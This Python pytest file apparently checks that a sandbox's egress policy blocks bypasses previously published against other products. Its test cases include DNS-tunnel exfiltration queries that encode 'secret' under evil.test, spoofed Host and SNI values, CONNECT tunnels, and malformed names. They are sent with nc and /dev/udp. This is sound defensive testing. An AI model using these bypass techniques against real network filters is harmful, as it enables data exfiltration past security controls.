# SPDX-License-Identifier: Apache-2.0
"""Ways around the egress policies of other products that were published, each tried on Cay

A case has the product and the number of its report.  What is expected comes from the wire: nothing reaches a host, and no
name server is asked, for what the policy does not allow.  The last step of each case shows that the policy allows what it
should, so that a case cannot pass because nothing works.
"""
import dataclasses
import socket
import struct

import lab
import pytest
from test_egress import API, CDN, PLAIN, allow, client_hello, dial, left, node, request  # noqa: F401

EVIL, CARRIER, RESOLVER = CDN, "100.64.0.1", "8.8.8.8"
HOSTS = [(API, 443), (EVIL, 443), (EVIL, 80), (EVIL, 53), (PLAIN, 80), (CARRIER, 80), (RESOLVER, 443), (RESOLVER, 53)]
ZONE = {"api.example.com": [API], "plain.example.com": [PLAIN], "other.example.com": [EVIL], "evil.example.com": [EVIL], "evil.test": [EVIL],
        "loop.example.com": ["127.0.0.1"], "carrier.example.com": [CARRIER]}
WEB = allow("plain.example.com", "other.example.com", ports=[80])
ALL = allow("*.example.com", ports=["1-65535"])
NOT_EVIL = {"rules": [{"action": "deny", "to": "evil.example.com", "ports": ["1-65535"]}, *ALL["rules"]]}
HTTP = request("plain.example.com", Authorization="Bearer secret")


@dataclasses.dataclass
class Try:
    """Bytes that a program in a sandbox with this policy sends, and where to."""
    policy: dict
    to: str
    port: int
    sends: bytes = HTTP
    udp: bool = False


def question(*labels, kind=1, tcp=False):
    name = b"".join(bytes([len(one)]) + one for one in labels) + b"\0"
    message = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + name + struct.pack(">HH", kind, 1)
    return struct.pack(">H", len(message)) + message if tcp else message


TXT = 16
EXFIL = (b"c2VjcmV0", b"evil", b"test")
TRIES = {
    # the connection went to an address of the sandbox's choice because its Host was an allowed name
    "cubesandbox-1410-host-chooses": Try(WEB, EVIL, 80),
    "opensandbox-1758-host-chooses": Try(WEB, "other.example.com", 80),
    "docker-sbx-224-routed-by-host": Try(WEB, "plain.example.com", 80, request("other.example.com")),
    # ... or the name in its TLS hello
    "cubesandbox-1697-sni-chooses": Try(allow("api.example.com"), EVIL, 443, client_hello("api.example.com")),
    "docker-sbx-605-no-sni": Try(allow("api.example.com"), "api.example.com", 443, client_hello(None)),
    # questions of DNS left the node whatever the policy was
    "docker-sbx-cve-2026-12039-dns": Try(WEB, RESOLVER, 53, question(*EXFIL, kind=TXT), udp=True),
    "openshell-1169-dns-of-denied-names": Try(WEB, "192.0.0.1", 53, question(*EXFIL), udp=True),
    "openshell-1169-txt-below-an-allowed-name": Try(WEB, "192.0.0.1", 53, question(b"c2VjcmV0", b"plain", b"example", b"com", kind=TXT), udp=True),
    "e2b-resolver-is-open": Try(WEB, RESOLVER, 53, question(*EXFIL, tcp=True)),
    "e2b-resolver-is-open-on-443": Try(WEB, RESOLVER, 443, client_hello("plain.example.com")),
    # names that were compared as text
    "sandbox-runtime-nul-in-a-name": Try(ALL, "192.0.0.1", 53, question(b"evil.test\0", b"example", b"com"), udp=True),
    "sandbox-runtime-dots-in-a-label": Try(ALL, "192.0.0.1", 53, question(b"evil.test", b"example", b"com"), udp=True),
    "smokescreen-cve-2022-24825-case": Try(NOT_EVIL, "EVIL.example.com", 80, request("evil.example.com")),
    "smokescreen-cve-2022-24825-dot": Try(NOT_EVIL, "evil.example.com.", 80, request("evil.example.com")),
    "smokescreen-cve-2022-29188-brackets": Try(WEB, "plain.example.com", 80, request("[other.example.com]")),
    "smokescreen-163-two-brackets": Try(WEB, "plain.example.com", 80, request("[[other.example.com]]")),
    # plain HTTP was not filtered, and a proxy that was allowed connected to others
    "sandbox-runtime-40213-plain-http": Try(WEB, "evil.test", 80, request("evil.test")),
    "sandbox-runtime-87381-connect": Try(WEB, "plain.example.com", 80, request(line="CONNECT evil.test:443 HTTP/1.1")),
    "iron-proxy-port-of-connect": Try(WEB, "plain.example.com", 80, request(line="CONNECT plain.example.com:22 HTTP/1.1")),
    # allowed names with addresses that are not public
    "sandbox-runtime-name-of-loopback": Try(ALL, "loop.example.com", 8080, request("loop.example.com")),
    "smokescreen-265-carrier-address": Try(ALL, "carrier.example.com", 80, request("carrier.example.com")),
}


@pytest.fixture(scope="module")
def net():
    with lab.Lab(HOSTS, dict(ZONE)) as internet:
        yield internet


@pytest.fixture(scope="module")
def loopback():
    """A server of the node, at the address that a name leads to."""
    with socket.create_server(("127.0.0.1", 8080)) as s:
        s.setblocking(False)
        yield s


@pytest.mark.parametrize("user,runtime", [("user", "crun"), ("root", "crun"), ("root", "runc")])
@pytest.mark.parametrize("case", TRIES)
def test_a_published_bypass(node, net, loopback, case, user, runtime):
    """NET-01"""
    it = TRIES[case]
    one = node.create("tiny", egress=it.policy, runtime=runtime)
    net.frames(), net.asked(), net.connections()
    node.open("PUT", f"/v1/sandboxes/{one}/files/content?path=/tmp/sent", it.sends).read()
    asks = f"exec 3<>/dev/udp/{it.to}/{it.port}; cat /tmp/sent >&3; busybox timeout 2 head -c 1 <&3 | wc -c"
    done = node.exec(one, ["bash", "-c", asks] if it.udp else ["sh", "-c", f"busybox nc -w 2 {it.to} {it.port} < /tmp/sent"], timeout_s=40, user=user)
    assert not it.udp or done.text == "1\n"  # the question was answered
    assert not b"".join(first for *_, first in net.connections())
    name = it.to.rstrip(".").lower()
    # a host that is allowed may be connected before the request is read; it got no byte
    assert left(net) <= {(address, 80) for address in ZONE.get(name, ()) if it.policy is WEB}
    assert {asked for asked, *_ in net.asked()} <= ({name} if name in ZONE and it.policy is not NOT_EVIL else set())
    with pytest.raises(BlockingIOError):
        loopback.accept()
    # what the policy allows passes
    if it.policy != allow("api.example.com"):
        assert dial(node, one, "plain.example.com", 80, "GET / HTTP/1.0\\r\\nHost: plain.example.com\\r\\n\\r\\n")[0].startswith(f"this is {PLAIN}")
    else:
        node.open("PUT", f"/v1/sandboxes/{one}/files/content?path=/tmp/sent", client_hello("api.example.com")).read()
        node.exec(one, ["sh", "-c", "busybox nc -w 2 api.example.com 443 < /tmp/sent"], timeout_s=40)
        assert left(net) == {(API, 443)}
    node.delete(one)


def test_cubesandbox_799_names_without_a_ttl(node, net):
    """Rules held the addresses of a name for its TTL, so that names without one could not be reached."""
    one = node.create("tiny", egress=WEB)
    for address in (PLAIN, EVIL, PLAIN):
        net.set_name("plain.example.com", [address])
        assert dial(node, one, "plain.example.com", 80, "GET / HTTP/1.0\\r\\nHost: plain.example.com\\r\\n\\r\\n")[0].startswith(f"this is {address}")
    node.delete(one)
